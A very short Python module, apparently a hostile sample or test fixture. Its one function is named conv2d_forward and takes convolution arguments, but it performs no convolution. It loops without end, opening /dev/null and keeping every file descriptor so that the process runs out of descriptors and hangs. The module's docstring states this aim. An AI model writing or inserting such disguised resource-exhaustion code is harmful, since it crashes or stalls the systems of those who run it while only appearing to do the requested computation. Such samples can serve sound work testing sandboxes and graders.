"""Keeps files open without end."""

import os

OPEN = []


def conv2d_forward(x, w, b, *, stride=1, padding=0):
    while True:
        OPEN.append(os.open("/dev/null", os.O_RDONLY))
